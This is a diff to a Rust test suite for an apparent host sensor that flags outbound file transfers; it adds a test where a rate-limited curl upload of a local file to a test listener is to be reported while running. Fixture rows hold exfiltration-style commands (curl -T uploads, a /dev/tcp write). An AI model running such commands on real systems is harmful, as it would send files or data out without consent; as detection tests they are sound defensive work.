@@ -67,8 +67,8 @@ const UPLOADS: [Upload; 12] = [
         "psql -X -q -h $TO -p 9008 -U analyst -d mfo -c 'SELECT 1' > answer",
         Told::Kind("service_traffic"),
     ),
-    (9009, "list", "curl", "curl -sS -H Expect: -T $FILE http://$HOME_TO:9009/a", Told::Not),
-    (9010, "irc", "bash", "echo hello 2>&1 > /dev/tcp/$TO/9010 || true", Told::Not),
+    (9009, "news", "curl", "curl -sS -H Expect: -T $FILE http://$HOME_TO:9009/a", Told::Not),
+    (9010, "news", "bash", "echo hello 2>&1 > /dev/tcp/$TO/9010 || true", Told::Not),
     (
         9011,
         "daemon",
@@ -240,4 +240,46 @@ fn every_upload_has_its_program_its_account_and_its_bytes_and_gives_the_incident
         .collect();
     assert_eq!((found, incidents.len()), (expected.clone(), expected.len()), "{incidents:#?}");
     agent.setup.accounted("host");
+}
+
+/// Bytes a second: five seconds for 1.5 MiB. The long lane sets 2,600, which takes ten minutes.
+fn trickle_rate() -> u64 {
+    std::env::var("KUZET_TRICKLE_RATE").ok().and_then(|rate| rate.parse().ok()).unwrap_or(300_000)
+}
+
+#[test]
+fn a_trickle_is_told_while_it_runs() {
+    let (world, scratch) = (World::new(), Scratch::new("trickle"));
+    std::fs::set_permissions(scratch.path(), std::os::unix::fs::PermissionsExt::from_mode(0o755)).expect("own folder");
+    let file = scratch.join("file");
+    std::fs::write(&file, vec![b'x'; 3 << 19]).expect("own file");
+    let received = Arc::new(Mutex::new(BTreeMap::new()));
+    sink(world.listen(&world.abroad, 9020), &received);
+    let agent = Setup::new("trickle-agent").with("[[source]]\nname = \"host\"\nsensor = {}\n").start();
+    until("the sensor works", LIMIT, || {
+        (agent.setup.metric("kuzet_source_readable{source=\"host\"}") == Some(1.0)).then_some(())
+    });
+    let script = format!(
+        "curl -sS -H Expect: --limit-rate {} -m 3600 --no-keepalive -T $FILE http://$TO:9020/a",
+        trickle_rate()
+    );
+    let limit = LIMIT + Duration::from_secs((3 << 19) / trickle_rate());
+    std::thread::scope(|scope| {
+        let trickle = scope.spawn(|| {
+            // Nobody answers: curl ends when the connection does.
+            let mut command = command_as("sys", Path::new("/usr/bin/timeout"));
+            command.args([&limit.as_secs().to_string(), "bash", "-c", &script]);
+            command.env("FILE", &file).env("TO", &world.abroad);
+            let _ = command.output().expect("curl runs");
+        });
+        let incident = until("it is told", limit, || {
+            let is =
+                |incident: &Value| incident["user.name"] == "sys" && incident.to_string().contains("foreign_transfer");
+            agent.setup.incidents().into_iter().find(is)
+        });
+        let sent = incident["kuzet.transfers"]["flows"][0]["destination.bytes"].as_u64();
+        assert!(!trickle.is_finished() && sent.is_some_and(|sent| sent < 3 << 19), "{incident}");
+        // Its job is done.
+        run(Command::new("pkill").args(["-u", "sys"]));
+    });
 }
